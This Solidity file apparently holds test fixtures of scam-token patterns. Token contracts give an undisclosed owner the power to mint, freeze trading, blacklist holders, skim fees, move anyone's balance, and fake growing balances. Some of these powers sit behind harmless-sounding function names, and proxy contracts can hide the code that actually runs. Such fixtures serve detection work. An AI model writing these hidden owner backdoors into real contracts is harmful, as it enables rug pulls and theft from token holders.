// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.30;

/// Its first place is kept free, for those who run this code with a storage of their own.
contract Plainest {
    address internal first;
    uint256 public totalSupply;
    mapping(address account => uint256) internal held;
    mapping(address owner => mapping(address spender => uint256)) public allowance;
    address internal pair;
    address internal hiddenOwner;

    event Transfer(address indexed from, address indexed to, uint256 value);

    constructor() {
        totalSupply = 1e27;
        held[msg.sender] = 1e27;
        hiddenOwner = msg.sender;
    }

    function begin(address given) external {
        require(pair == address(0));
        pair = given;
    }

    function name() external pure returns (string memory) {
        return "Some Token";
    }

    function symbol() external pure returns (string memory) {
        return "SOME";
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function balanceOf(address account) public view virtual returns (uint256) {
        return held[account];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual {
        _take(from, to, value, 0);
    }

    function _take(address from, address to, uint256 value, uint256 fee) internal {
        held[from] -= value;
        held[to] += value - fee;
        held[hiddenOwner] += fee;
        emit Transfer(from, to, value - fee);
    }

    modifier onlyHidden() {
        require(msg.sender == hiddenOwner);
        _;
    }
}

abstract contract Runs {
    function _run(address target) internal {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let done := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(done) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Its storage names the code, at any place.
contract SlotProxy is Runs {
    bytes32 private immutable slot;

    constructor(address target, bytes32 given) {
        slot = given;
        assembly {
            sstore(given, target)
        }
    }

    fallback() external {
        bytes32 place = slot;
        address target;
        assembly {
            target := sload(place)
        }
        _run(target);
    }
}

interface IBeacon {
    function implementation() external view returns (address);
}

contract BeaconProxy is Runs {
    bytes32 private constant SLOT = 0xa3f0ad74e5423aebfd80d3ef4346578335a9a72aeaee59ff6cb3582b35133d50;

    constructor(address beacon) {
        assembly {
            sstore(SLOT, beacon)
        }
    }

    fallback() external {
        address beacon;
        assembly {
            beacon := sload(SLOT)
        }
        _run(IBeacon(beacon).implementation());
    }
}

contract SomeBeacon {
    address public implementation;

    constructor(address given) {
        implementation = given;
    }
}

contract CutFacet {
    struct Cut {
        address facet;
        uint8 action;
        bytes4[] selectors;
    }

    function diamondCut(Cut[] calldata, address, bytes calldata) external pure {
        revert("not now");
    }
}

/// Each function may stand in another contract.
contract Diamond is Runs {
    mapping(bytes4 selector => address) private facetOf;
    address[] private facets;

    constructor(address token, address cutter) {
        facets.push(token);
        if (cutter != address(0)) facets.push(cutter);
        facetOf[0x18160ddd] = token;
        facetOf[0x70a08231] = token;
        facetOf[0x313ce567] = token;
        facetOf[0x1f931c1c] = cutter;
    }

    function facetAddresses() external view returns (address[] memory) {
        return facets;
    }

    fallback() external {
        address facet = facetOf[msg.sig];
        require(facet != address(0), "no such function");
        _run(facet);
    }
}

/// Names a contract in its first place and runs only its own code, by itself.
contract Multicalls is Plainest {
    constructor(address given) {
        first = given;
    }

    function multicall(bytes[] calldata calls) external {
        for (uint256 i = 0; i < calls.length; i++) {
            (bool done,) = address(this).delegatecall(calls[i]);
            require(done);
        }
    }
}

/// One function that its owner may call, by a name that many have.
contract MintTo is Plainest {
    function mintTo(address to, uint256 value) external onlyHidden {
        held[to] += value;
        totalSupply += value;
    }
}

contract TradingSwitch is Plainest {
    bool private open = true;

    function setTrading(bool given) external onlyHidden {
        open = given;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(open || from == hiddenOwner);
        _take(from, to, value, 0);
    }
}

contract Blacklist is Plainest {
    mapping(address account => bool) private listed;

    function setBlacklist(address account, bool given) external onlyHidden {
        listed[account] = given;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!listed[from]);
        _take(from, to, value, 0);
    }
}

contract FeeSwitch is Plainest {
    bool private on;

    function setFeesEnabled(bool given) external onlyHidden {
        on = given;
    }

    function _move(address from, address to, uint256 value) internal override {
        _take(from, to, value, on ? value / 4 : 0);
    }
}

contract OwnerFee is Plainest {
    uint256 private fee;

    function setTaxFeePercent(uint256 given) external onlyHidden {
        fee = given;
    }

    function _move(address from, address to, uint256 value) internal override {
        _take(from, to, value, from == hiddenOwner ? 0 : value * fee / 100);
    }
}

/// The same powers, by names that tell nothing, for an owner whom nobody is told.
contract Hidden is Plainest {
    uint256 private immutable kind;
    mapping(address account => bool) private marked;
    uint256 private setting;

    constructor(uint256 given) {
        kind = given;
    }

    function harvest(uint256 value) external onlyHidden {
        if (kind == 1) held[msg.sender] += value;
    }

    function credit(address to, uint256 value) external onlyHidden {
        if (kind == 2) {
            held[to] += value;
            totalSupply += value;
        }
    }

    function sync(bool given) external onlyHidden {
        if (kind == 3) setting = given ? 1 : 0;
    }

    function notice(address account, bool given) external onlyHidden {
        if (kind == 4) marked[account] = given;
    }

    function notices(address[] calldata accounts, bool given) external onlyHidden {
        if (kind == 5) for (uint256 i = 0; i < accounts.length; i++) marked[accounts[i]] = given;
    }

    function tune(uint256 given) external onlyHidden {
        if (kind == 6) setting = given;
    }

    function settle(address from, address to, uint256 value) external onlyHidden {
        if (kind == 7) {
            held[from] -= value;
            held[to] += value;
        }
    }

    function begun() external onlyHidden {
        if (kind == 8) setting = 1;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == hiddenOwner || to == hiddenOwner) return _take(from, to, value, 0);
        require(!((kind == 3 || kind == 8) && setting == 1));
        require(!marked[from]);
        _take(from, to, value, kind == 6 && to == pair ? value * setting / 100 : 0);
    }
}

/// Balances grow with time.
contract Grows is Plainest {
    uint256 private immutable begunAt = block.timestamp;

    function balanceOf(address account) public view override returns (uint256) {
        return account.code.length > 0 ? held[account] : held[account] * (1 days * 100 + block.timestamp - begunAt) / (1 days * 100);
    }
}
